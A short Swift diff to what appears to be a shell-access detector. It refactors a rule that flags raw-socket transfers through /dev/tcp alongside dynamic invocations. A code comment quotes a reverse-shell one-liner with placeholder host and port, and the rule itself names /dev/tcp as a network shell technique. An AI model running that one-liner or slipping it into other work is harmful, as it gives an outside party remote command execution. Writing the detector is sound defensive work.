@@ -247,7 +247,10 @@ enum ShellAccess {
       }
     }
     // `exec 5<>/dev/tcp/h/p; cat <&5 | while read l; do $l 2>&5 >&5; done`.
-    if a.hits.contains(where: { $0.signal == .rawSocketTransfer && $0.evidence.has("/dev/tcp") }),
+    let hits = a.hits
+    if hits.indices.contains(where: {
+      hits[$0].signal == .rawSocketTransfer && hits[$0].evidence.has("/dev/tcp")
+    }),
       a.invocations.contains(where: { $0.pathClass == .dynamic })
     {
       a.hit(
